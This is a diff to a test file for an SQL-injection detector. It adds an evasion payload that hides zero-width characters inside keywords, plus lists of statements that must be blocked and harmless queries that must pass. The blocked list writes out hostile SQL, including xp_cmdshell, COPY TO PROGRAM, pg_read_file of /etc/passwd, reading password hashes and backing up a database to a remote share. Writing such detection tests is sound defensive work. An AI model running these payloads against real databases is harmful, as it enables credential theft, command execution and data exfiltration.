@@ -38,6 +38,8 @@ const attacks: [string, string][] = [
   ["'; SHUTDOWN--", 'sqli-stacked'],
   ["1 INTO OUTFILE '/tmp/x'", 'sqli-out-of-band'],
   ["select * from pg_group;", 'sqli-statement'],
+  // zero-width characters inside keywords (issue 3)
+  ["' un\u200bion se\u200blect 1\u200b,2\u200b,3", 'sqli-union'],
   ["'-'", 'sqli-boolean'],
   // statements after a break-out without `;` (MSSQL batches), and after `;` deeper in the value
   ["' exec sp_addlogin 'eve', 'pw'--", 'sqli-stacked'],
@@ -157,4 +159,25 @@ test('SQL analysis stays linear on long adversarial input', () => {
     analyzeSql(v)
     assert.ok(performance.now() - t < 1000)
   }
+})
+
+test('SQL: a statement aimed at the database internals blocks, a snippet of app queries does not (issue 3)', () => {
+  const failures: string[] = []
+  for (const value of [
+    'select * from pg_shadow;', "select current_setting('data_directory');", 'select * from master..sysservers', 'SELECT user, authentication_string FROM mysql.user',
+    "COPY (SELECT '') TO PROGRAM 'id'", 'exec xp_cmdshell', 'EXEC master..xp_cmdshell', 'SELECT 6229 FROM(SELECT COUNT(*),CONCAT(0x717a786a71,(SELECT (CASE',
+    'SELECT CHR(113)||CHR(122)||CHR(120)||CHR(106)||CHR(113)||(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))', "copy secrets to '/tmp/out.csv';", "BACKUP DATABASE master TO DISK = '\\\\203.0.113.5\\share\\m.bak'", 'SELECT pg_read_file(\'/etc/passwd\')',
+  ]) {
+    const f = analyzeSql(value)
+    if (f === null || f.confidence < 0.8) failures.push(`missed: ${value} ${f?.rule} ${f?.confidence}`)
+  }
+  for (const value of [
+    'SELECT id, name FROM customers WHERE country = :country ORDER BY created_at DESC LIMIT 20;', 'SELECT COUNT(*) FROM orders;', 'select version();',
+    'Copy it to the Downloads folder', 'backup database nightly to disk', 'execute the plan', 'SELECT a + (SELECT b FROM t) FROM u;',
+    "SELECT c.name, (SELECT COUNT(*) FROM orders o WHERE o.customer_id = c.id) AS n FROM customers c WHERE c.code = 'X';", 'SELECT * FROM users WHERE role = \'admin\';',
+  ]) {
+    const f = analyzeSql(value)
+    if (f !== null && f.confidence >= 0.8) failures.push(`blocked: ${value} ${f.rule} ${f.confidence}`)
+  }
+  assert.deepEqual(failures, [])
 })
